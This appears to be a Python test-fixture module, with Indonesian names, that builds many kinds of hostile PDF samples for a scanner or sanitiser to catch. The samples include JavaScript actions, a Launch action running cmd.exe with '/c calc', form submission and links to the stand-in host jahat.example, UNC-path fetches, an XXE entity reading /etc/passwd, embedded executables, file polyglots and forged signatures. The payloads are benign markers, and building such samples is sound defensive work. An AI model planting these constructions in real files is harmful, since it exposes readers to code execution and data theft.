"""Hostile PDF, each of another kind: what acts, reaches outside, hides a second file, or is locked."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable

from script._berkas.mentah import HALAMAN, ISI, aliran, bertanda, dasar, kempis, rakit, satu, tambah

SKRIP = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
TAUT = b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 100 100]/A %s>>]"
HTML = b"<!doctype html><html><script>alert(1)</script></html>"
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
XXE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x:xmpmeta>&a;</x:xmpmeta>'


def _zip(komentar: bytes = b"") -> bytes:
    keluar = io.BytesIO()
    with zipfile.ZipFile(keluar, "w") as arsip:
        arsip.writestr("jahat.js", "alert(1)")
        arsip.comment = komentar
    return keluar.getvalue()


def _pikepdf(**simpan: object) -> bytes:
    import pikepdf

    keluar = io.BytesIO()
    with pikepdf.open(io.BytesIO(satu(b"/OpenAction " + SKRIP if simpan.pop("skrip", False) else b""))) as pdf:
        pdf.save(keluar, **simpan)  # type: ignore[arg-type]
    return keluar.getvalue()


def _terkunci(pengguna: str, pemilik: str, lama: bool = False) -> bytes:
    import pikepdf

    if lama:
        kunci = pikepdf.Encryption(user=pengguna, owner=pemilik, R=2, aes=False, metadata=False)
    else:
        kunci = pikepdf.Encryption(user=pengguna, owner=pemilik)
    return _pikepdf(encryption=kunci)


def _dalam_aliran_objek() -> bytes:
    import pikepdf

    return _pikepdf(skrip=True, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True)


def _tautan(aksi: bytes) -> Callable[[], bytes]:
    return lambda: satu(halaman=TAUT % aksi)


def _akar(isi: bytes, **lain: bytes) -> Callable[[], bytes]:
    return lambda: satu(isi, **lain)


def _catatan(isi: bytes, **lain: bytes) -> Callable[[], bytes]:
    return lambda: satu(halaman=b"/Annots[<</Type/Annot/Rect[0 0 9 9]" + isi + b">>]", **lain)


LAMPIRAN = {"o5": b"<</Type/Filespec/F(a.exe)/EF<</F 6 0 R>>>>", "o6": aliran(b"MZ")}
BENTUK = b"/AcroForm<</Fields[5 0 R]%s>>"
MEDAN = b"<</FT/Tx/T(a)/V(1)/Subtype/Widget/Rect[0 0 9 9]%s>>"

BERTINDAK: dict[str, Callable[[], bytes]] = {
    "skrip saat dibuka": _akar(b"/OpenAction " + SKRIP),
    "skrip pada nama": _akar(b"/Names<</JavaScript<</Names[(a)5 0 R]>>>>", o5=SKRIP),
    "skrip halaman": lambda: satu(halaman=b"/AA<</O " + SKRIP + b">>"),
    "skrip dokumen": _akar(b"/AA<</WC " + SKRIP + b">>"),
    "skrip tautan": _tautan(SKRIP),
    "skrip isian": _akar(BENTUK % b"", o5=MEDAN % (b"/AA<</K " + SKRIP + b">>")),
    "skrip hitungan": _akar(BENTUK % b"/CO[5 0 R]", o5=MEDAN % (b"/AA<</C " + SKRIP + b">>")),
    "skrip dalam aliran objek": _dalam_aliran_objek,
    "skrip tak tertaut": lambda: satu(o5=SKRIP),
    "skrip bernama samar": _akar(b"/OpenAction<</S/J#61va#53cript/#4aS(app.alert\\(1\\))>>"),
    "skrip utf-16": _akar(b"/OpenAction<</S/JavaScript/JS<FEFF006100700070>>>"),
    "skrip sebagai aliran": _akar(b"/OpenAction<</S/JavaScript/JS 5 0 R>>", o5=kempis(b"app.alert(1)")),
    "skrip berantai": _akar(b"/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next[" + SKRIP + b"]>>"),
    "skrip pada daftar isi": _akar(
        b"/Outlines 5 0 R", o5=b"<</First 6 0 R/Last 6 0 R/Count 1>>",
        o6=b"<</Title(a)/Parent 5 0 R/A " + SKRIP + b">>",
    ),
    "luncur": _akar(b"/OpenAction<</S/Launch/F(cmd.exe)>>"),
    "luncur windows": _tautan(b"<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>"),
    "kirim isian": _tautan(b"<</S/SubmitForm/F(http://jahat.example/)>>"),
    "ambil isian": _tautan(b"<</S/ImportData/F(\\\\\\\\jahat\\\\a.fdf)>>"),
    "pindah ke lampiran": _tautan(b"<</S/GoToE/D[0/Fit]/T<</R/C/N(a)>>>>"),
    "pindah ke berkas lain": _tautan(b"<</S/GoToR/F(\\\\\\\\jahat\\\\a.pdf)/D[0/Fit]>>"),
    "pindah ke berkas lain saat dibuka": _akar(b"/OpenAction<</S/GoToR/F(\\\\\\\\jahat\\\\a.pdf)/D[0/Fit]>>"),
    "tautan http": _tautan(b"<</S/URI/URI(http://jahat.example/)>>"),
    "tautan javascript": _tautan(b"<</S/URI/URI(javascript:alert\\(1\\))>>"),
    "tautan berkas": _tautan(b"<</S/URI/URI(file:///etc/passwd)>>"),
    "tautan unc": _tautan(b"<</S/URI/URI(\\\\\\\\jahat\\\\bagi)>>"),
    "tautan saat dibuka": _akar(b"/OpenAction<</S/URI/URI(http://jahat.example/)>>"),
    "alamat dasar": _akar(b"/URI<</Base(http://jahat.example/)>>"),
    "penyaji": _tautan(b"<</S/Rendition/OP 0/R<</S/MR>>>>"),
    "film": _catatan(b"/Subtype/Movie/Movie<</F(a.avi)>>"),
    "suara": _tautan(b"<</S/Sound/Sound 5 0 R>>"),
    "media kaya": _catatan(b"/Subtype/RichMedia/RichMediaContent<<>>"),
    "tiga dimensi": _catatan(b"/Subtype/3D/3DD 5 0 R", o5=aliran(b"U3D", b"/Type/3D/Subtype/U3D")),
    "layar": _catatan(b"/Subtype/Screen/A<</S/Rendition>>"),
    "lampiran pada catatan": _catatan(b"/Subtype/FileAttachment/FS 5 0 R", **LAMPIRAN),
    "lampiran": _akar(b"/Names<</EmbeddedFiles<</Names[(a)5 0 R]>>>>", **LAMPIRAN),
    "lampiran tak tertaut": lambda: satu(**LAMPIRAN),
    "berkas terkait": _akar(b"/AF[5 0 R]", **LAMPIRAN),
    "kumpulan berkas": _akar(b"/Collection<</View/D>>"),
    "formulir xfa": _akar(BENTUK % b"/XFA 6 0 R", o5=MEDAN % b"", o6=aliran(b"<xdp:xdp/>")),
    "cetak saat dibuka": _akar(b"/OpenAction<</S/Named/N/Print>>"),
    "hapus isian": _tautan(b"<</S/ResetForm>>"),
    "sembunyikan": _tautan(b"<</S/Hide/T(a)>>"),
    "ganti lapisan": _tautan(b"<</S/SetOCGState/State[/OFF 5 0 R]>>"),
    "aliran di luar": lambda: satu(halaman=b"/X 5 0 R", o5=aliran(b"", b"/F(\\\\\\\\jahat\\\\a)")),
    "gambar di luar": lambda: satu(
        halaman=b"/X 5 0 R", o5=aliran(b"", b"/Subtype/Form/BBox[0 0 9 9]/Ref<</F(a.pdf)/Page 0>>")
    ),
    "gambar opi": lambda: satu(halaman=b"/X 5 0 R", o5=aliran(b"", b"/Subtype/Form/BBox[0 0 9 9]/OPI<</2.0<<>>>>")),
    "postscript": lambda: satu(halaman=b"/X 5 0 R", o5=aliran(b"showpage", b"/Type/XObject/Subtype/PS")),
    "metadata xxe": _akar(b"/Metadata 5 0 R", o5=aliran(XXE, b"/Type/Metadata/Subtype/XML")),
    "tangkapan web": _akar(b"/SpiderInfo<</V 1.0>>"),
    "matriks huruf berisi skrip": lambda: satu(
        halaman=b"/F 5 0 R", o5=b"<</Type/Font/Subtype/Type1/BaseFont/X/FontMatrix[1 2 3 4 5 (alert\\(1\\))]>>"
    ),
    "tanda tangan dan skrip": lambda: bertanda(dasar(b"/OpenAction " + SKRIP)),
    "tanda tangan dan berkas luar": lambda: bertanda(dasar(halaman=TAUT % b"<</S/GoToR/F(a.pdf)/D[0/Fit]>>")),
    "tanda tangan dan tautan aneh": lambda: bertanda(dasar(halaman=TAUT % b"<</S/URI/URI(javascript:1)>>")),
    "tanda tangan dan ekor": lambda: bertanda(dasar()) + b"ekor ekor ekor",
    "tanda tangan palsu": lambda: bertanda(dasar(halaman=TAUT % b"<</S/URI/URI(file:///a)>>"), rentang_benar=False),
    "skrip pada pembaruan": lambda: tambah(satu(), {1: b"<</Type/Catalog/Pages 2 0 R/OpenAction " + SKRIP + b">>"}),
    "skrip pada isi lama": lambda: tambah(
        satu(b"/OpenAction " + SKRIP), {1: b"<</Type/Catalog/Pages 2 0 R>>"}
    ),
}  # fmt: skip

MENYAMAR: dict[str, Callable[[], bytes]] = {
    "kata sandi": lambda: _terkunci("rahasia", "rahasia"),
    "sandi pemilik saja": lambda: _terkunci("", "rahasia"),
    "sandi pemilik saja, cara lama": lambda: _terkunci("", "rahasia", lama=True),
    "html di depan": lambda: HTML + satu(),
    "zip di depan": lambda: _zip() + satu(),
    "jpeg di depan": lambda: JPEG + satu(),
    "zip di belakang": lambda: satu() + _zip(),
    "zip berkomentar akhir": lambda: satu() + _zip(b"\n%%EOF\n"),
    "html di belakang": lambda: satu() + HTML,
    "program di belakang": lambda: satu() + b"MZ\x90\0" * 40,
    "jpeg di belakang": lambda: satu() + JPEG * 8,
    "pdf kedua di belakang": lambda: satu() + b"\n" + satu(b"/OpenAction " + SKRIP),
    "sisa panjang di belakang": lambda: satu() + b"x" * 5000,
    "sisa pendek di belakang": lambda: satu() + b"x" * 50,
    "html di kepala": lambda: rakit(dasar(), kepala=b"%PDF-1.7\n%" + HTML + b"\n"),
    "html sebagai pdf": lambda: b"%PDF-1.7\n" + HTML + b"\n%%EOF\n",
    "program sebagai pdf": lambda: b"MZ\x90\0" * 100,
    "svg sebagai pdf": lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "kepala saja": lambda: b"%PDF-1.7\n%%EOF\n",
    "zip di dalam aliran": lambda: rakit(dasar(isi=aliran(ISI), o5=aliran(_zip())), kepala=b"%PDF-1.4\n"),
}

__all__ = ["BERTINDAK", "HALAMAN", "MENYAMAR"]
